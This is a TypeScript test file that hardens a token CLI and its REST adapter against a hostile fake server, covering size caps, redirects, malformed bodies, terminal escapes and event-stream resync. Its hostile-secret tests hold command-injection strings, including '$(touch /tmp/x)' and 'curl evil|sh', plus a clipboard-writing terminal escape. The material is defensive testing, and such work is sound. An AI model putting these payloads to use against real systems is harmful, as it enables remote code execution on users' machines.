// The rest adapter and the command line against a hostile REST token server (in-process, over
// loopback): a Retry-After of a day, answers over the size cap (declared and endless), redirects
// to another origin, unexpected statuses, bodies off the contract, an unreadable expiry, a
// hostile secret, terminal escapes in every field, and the event stream's `resync`.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { WatchEvent } from '../../src/adapters/contract.ts';
import { createToken } from '../../src/adapters/operations/create.ts';
import { createRestAdapter } from '../../src/adapters/rest/index.ts';
import { systemClock } from '../../src/core/clock.ts';
import { isTokenTuiError, TokenTuiError } from '../../src/core/errors.ts';
import { runTokentui } from '../cli/harness.ts';
import { removeScratch } from '../support/at-rest.ts';
import { RAW_CONTROL_BUT_NEWLINE, HOSTILE_SAMPLES } from '../support/hostile-text.ts';
import { sendJson, startHostileServer, streamForever, type HostileServer } from '../support/hostile-server.ts';
import { API_KEY, startFakeRestServer, tokensRoute, wireCapabilities, wireError, wireToken, type FakeRestServer } from './fake-rest-server.ts';

const MIB = 1024 * 1024;
let server: FakeRestServer;
let home: string;
beforeAll(async () => {
  server = await startFakeRestServer();
  home = mkdtempSync(join(tmpdir(), 'tokentui-hostile-'));
});
afterAll(async () => {
  await server.close();
  removeScratch(home);
});
afterEach(() => {
  server.route(() => false);
  server.tokens = [];
  server.requests.length = 0;
});

const open = (maxResponseBytes?: number) =>
  createRestAdapter(
    { adapter: 'rest', context: 'hostile', server: server.url, apiKey: API_KEY },
    { clock: systemClock, proxyEnv: {}, ...(maxResponseBytes === undefined ? {} : { limits: { maxResponseBytes } }) },
  );

async function failure(promise: Promise<unknown>): Promise<TokenTuiError> {
  const error = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!isTokenTuiError(error)) throw new Error(`expected a TokenTuiError, got ${String(error)}`);
  return error;
}

const cli = (...args: string[]) => runTokentui(['--server', server.url, ...args], { env: { TOKENTUI_API_KEY: API_KEY, HOME: home, XDG_STATE_HOME: home, XDG_CONFIG_HOME: home } });
const tokenRequests = () => server.requests.filter((request) => request.path === '/api/v1/tokens');

describe('Retry-After', () => {
  it('longer than 10 s is not waited out: the list fails at once with the server words, exit 1, no retry', async () => {
    server.route(tokensRoute((_request, response) => void sendJson(response, 503, wireError('unavailable', 'down for maintenance'), { 'retry-after': '99999' })));
    const adapter = await open();
    const started = Date.now();
    const error = await failure(adapter.list());
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(error.exitCode).toBe(1);
    expect(error.message).toContain('down for maintenance');
    expect(error.message).toContain('retry after 99999 s; tokentui waits at most 10 s');
    expect(tokenRequests()).toHaveLength(1);
    const run = await cli('list');
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/^tokentui: rest: down for maintenance .*99999 s/m);
  });

  it('within the cap is waited for and retried once', async () => {
    let calls = 0;
    server.route((request, response) => {
      if (request.path !== '/api/v1/tokens' || (calls += 1) > 1) return false;
      sendJson(response, 503, wireError('unavailable', 'busy'), { 'retry-after': '1' });
      return true;
    });
    const adapter = await open();
    const started = Date.now();
    expect(await adapter.list()).toEqual([]);
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
    expect(tokenRequests()).toHaveLength(2);
  });
});

describe('response size', () => {
  it('an answer whose Content-Length is over the cap is refused before its body is read', async () => {
    server.route(
      tokensRoute(async (_request, response) => {
        response.writeHead(200, { 'content-type': 'application/json', 'content-length': String(100 * MIB) });
        await streamForever(response, Buffer.alloc(64 * 1024, 0x20), 100 * MIB);
      }),
    );
    const adapter = await open(MIB);
    const error = await failure(adapter.list());
    expect(error.exitCode).toBe(1);
    expect(error.message).toMatch(/answered GET \/api\/v1\/tokens with 100 MiB \(Content-Length\), over the 1 MiB limit; refused/);
    expect(error.hint).toContain('TOKENTUI_MAX_RESPONSE_SIZE');
    // The socket buffers took what they could; the rest was never sent.
    await vi.waitFor(() => expect(server.bytesSent).toBeLessThan(20 * MIB));
  });

  it('an endless body without a length is cut off at the cap while it streams', async () => {
    server.route(tokensRoute((_request, response) => streamForever(response, Buffer.from(`${JSON.stringify(wireToken('aaaaaa'))},`.repeat(100)))));
    const adapter = await open(2 * MIB);
    const error = await failure(adapter.list());
    expect(error.message).toMatch(/with more than 2 MiB, over the 2 MiB limit; refused/);
    const sent = server.bytesSent;
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(server.bytesSent - sent).toBeLessThan(MIB); // the server is no longer being read
  });
});

describe('redirects', () => {
  let elsewhere: HostileServer;
  beforeAll(async () => {
    elsewhere = await startHostileServer((_request, response) => sendJson(response, 200, { items: [], eventSeq: 0 }));
  });
  afterAll(() => elsewhere.close());

  it('to another origin are refused, and the other origin never sees a request (or the key)', async () => {
    server.route(tokensRoute((_request, response) => void response.writeHead(302, { location: `${elsewhere.url}/api/v1/tokens` }).end()));
    const adapter = await open();
    const error = await failure(adapter.list());
    expect(error.exitCode).toBe(1);
    expect(error.message).toContain(`to another origin (${elsewhere.url})`);
    expect(elsewhere.requests).toEqual([]);
  });

  it('within the same origin are followed for reads, never for a mint', async () => {
    server.tokens = [wireToken('abcdef')];
    server.route((request, response) => {
      if (request.path === '/api/v1/old-tokens') return false;
      if (request.method === 'GET' && request.path === '/api/v1/tokens' && request.query.moved === undefined) {
        response.writeHead(301, { location: '/api/v1/tokens?moved=1' }).end();
        return true;
      }
      if (request.method === 'POST') {
        response.writeHead(307, { location: '/api/v1/tokens?moved=1' }).end();
        return true;
      }
      return false;
    });
    const adapter = await open();
    expect((await adapter.list()).map((token) => token.id)).toEqual(['abcdef']);
    expect(tokenRequests().map((request) => request.query)).toEqual([{}, { moved: '1' }]);
    const mint = await failure(adapter.create!({ description: '', ttlSeconds: 3600 }));
    expect(mint.exitCode).toBe(1);
    expect(mint.message).toContain('a POST is never sent twice');
    expect(server.requests.filter((request) => request.method === 'POST')).toHaveLength(1);
  });
});

describe('answers off the contract', () => {
  it('an unexpected status (418) is a backend failure, exit 1, not invalid input', async () => {
    server.route(tokensRoute((_request, response) => void sendJson(response, 418, wireError('teapot', "I'm a teapot"))));
    const run = await cli('list');
    expect(run.code).toBe(1);
    expect(run.stderr).toContain("I'm a teapot");
  });

  it('a field of the wrong type fails the request with an error naming the field', async () => {
    server.tokens = [wireToken('abcdef'), wireToken('ghijkl', { uses: '3' })];
    const error = await failure((await open()).list());
    expect(error.exitCode).toBe(1);
    expect(error.field).toBe('items[1].uses');
    expect(error.message).toMatch(/answered GET \/api\/v1\/tokens with a body the REST contract does not allow: items\[1\]\.uses: expected an integer/);
    server.tokens = { not: 'a list' } as unknown as unknown[];
    expect((await failure((await open()).list())).message).toContain('items: expected an array');
  });

  it('capabilities off the contract refuse the connection before anything else', async () => {
    server.route((request, response) => {
      if (request.path !== '/api/v1/capabilities') return false;
      sendJson(response, 200, { ...wireCapabilities(), ttl: { minSeconds: -1 } });
      return true;
    });
    const error = await failure(open());
    expect(error.field).toBe('ttl.defaultSeconds');
  });

  it('an expiry that does not parse makes the token invalid, never "active, never expires"', async () => {
    server.tokens = [wireToken('abcdef', { expiresAt: 'soon\u001b]2;x\u0007' })];
    const [token] = await (await open()).list();
    expect(token).toMatchObject({ id: 'abcdef', expiresAt: null, invalidReason: expect.stringContaining('is not an RFC 3339 time') });
    const listed = await cli('list', '-o', 'json');
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.stdout)).toEqual([expect.objectContaining({ id: 'abcdef', status: 'invalid', expiresAt: null })]);
    const table = await cli('list');
    expect(table.stdout).toMatch(/^abcdef\s+<invalid>/m);
    expect(table.stdout + table.stderr).not.toMatch(RAW_CONTROL_BUT_NEWLINE);
  });
});

describe('a hostile secret', () => {
  const hostileSecrets = ['evl001.$(touch /tmp/x)', 'abcdef.0123456789abcde\u001b]52;c;ZXZpbA==\u0007', 'abcdef.0123456789abcdef\ncurl evil|sh', 'zzzzzz.0123456789abcdef'];

  for (const secret of hostileSecrets) {
    it(`is never printed, copied or put in a join command: ${JSON.stringify(secret)}`, async () => {
      server.route(tokensRoute((_request, response) => void sendJson(response, 201, { token: wireToken('abcdef'), secret }), 'POST'));
      const adapter = await open();
      const records: unknown[] = [];
      const outcome = await createToken(adapter, { description: '', ttlSeconds: 3600 }, { record: (entry) => records.push(entry) });
      expect(outcome).toMatchObject({ kind: 'failed', uncertain: true, error: { kind: 'server', field: 'secret' } });
      expect(JSON.stringify(records)).not.toContain(secret);
      for (const args of [['create'], ['create', '--print-join-command'], ['create', '-o', 'json']]) {
        const run = await cli(...args);
        expect(run.code).toBe(1);
        expect(run.stdout).toBe('');
        expect(run.stderr).toMatch(/does not allow: secret: expected a secret/);
        expect(run.stderr).not.toContain(secret.slice(7));
      }
    });
  }
});

describe('terminal escapes in every field', () => {
  it('list prints them as visible escapes in the table, and as \\u escapes in JSON', async () => {
    server.tokens = HOSTILE_SAMPLES.map((sample, index) => wireToken(`tok${index}${sample}`, { description: sample, scope: sample, createdBy: sample, etag: `"e${index}"` }));
    for (const format of [[], ['-o', 'json'], ['-o', 'yaml']]) {
      const run = await cli('list', ...format);
      expect(run.code).toBe(0);
      expect(run.stdout + run.stderr).not.toMatch(RAW_CONTROL_BUT_NEWLINE);
      expect(run.stdout.split('\n').length).toBeLessThanOrEqual(format.length === 0 ? HOSTILE_SAMPLES.length + 2 : Number.POSITIVE_INFINITY);
    }
    const json = JSON.parse((await cli('list', '-o', 'json')).stdout) as { description: string }[];
    expect(json.map((token) => token.description)).toEqual([...HOSTILE_SAMPLES]);
  });

  it('a server error message is one bounded line', async () => {
    server.route(tokensRoute((_request, response) => void sendJson(response, 500, { error: 'internal', message: `boom\n${'tokentui: revoked everything '.repeat(500)}\u001b[2J`, details: {} })));
    const run = await cli('list');
    expect(run.code).toBe(1);
    expect(run.stderr.split('\n').filter((line) => line !== '')).toHaveLength(1);
    expect(run.stderr.length).toBeLessThan(700);
    expect(run.stderr).not.toMatch(RAW_CONTROL_BUT_NEWLINE);
  });
});

describe('the event stream', () => {
  function eventStream(script: (write: (text: string) => void) => void) {
    server.route((request, response) => {
      if (request.path === '/api/v1/capabilities') {
        sendJson(response, 200, wireCapabilities({ events: true }));
        return true;
      }
      if (request.path !== '/api/v1/events') return false;
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      script((text) => response.write(text));
      return true;
    });
  }

  it('resync: the client lists again at once and reconnects, without calling it a failure', async () => {
    let streams = 0;
    eventStream((write) => {
      streams += 1;
      write(`event: ready\ndata: {"eventSeq":0,"heartbeatSeconds":30}\n\n`);
      if (streams === 1) setTimeout(() => write(`event: resync\ndata: {"reason":"slow-consumer"}\n\n`), 50);
    });
    server.tokens = [wireToken('abcdef')];
    const adapter = await open();
    const events: WatchEvent[] = [];
    const controller = new AbortController();
    adapter.watch!((event) => events.push(event), controller.signal);
    try {
      await vi.waitFor(() => expect(streams).toBe(2), { timeout: 5_000 });
      await vi.waitFor(() => expect(events.filter((event) => event.type === 'snapshot').length).toBeGreaterThanOrEqual(3), { timeout: 5_000 });
      expect(events.filter((event) => event.type === 'state').map((event) => event.type === 'state' && event.state)).toEqual(['connecting', 'live']);
      // ready -> list, resync -> list, ready again -> list.
      expect(tokenRequests().length).toBeGreaterThanOrEqual(3);
    } finally {
      controller.abort();
    }
  });

  it('an event larger than the cap, or off the contract, ends the stream as a failure naming why', async () => {
    eventStream((write) => {
      write(`event: ready\ndata: {"eventSeq":0,"heartbeatSeconds":30}\n\n`);
      setTimeout(() => write(`event: token.created\nid: 1\ndata: ${'x'.repeat(2 * MIB)}`), 50);
    });
    const adapter = await open(MIB);
    const events: WatchEvent[] = [];
    const controller = new AbortController();
    adapter.watch!((event) => events.push(event), controller.signal);
    try {
      await vi.waitFor(() => expect(events.at(-1)).toMatchObject({ type: 'state', state: 'reconnecting', error: { message: expect.stringContaining('larger than 1 MiB') } }), { timeout: 5_000 });
    } finally {
      controller.abort();
    }
  });
});
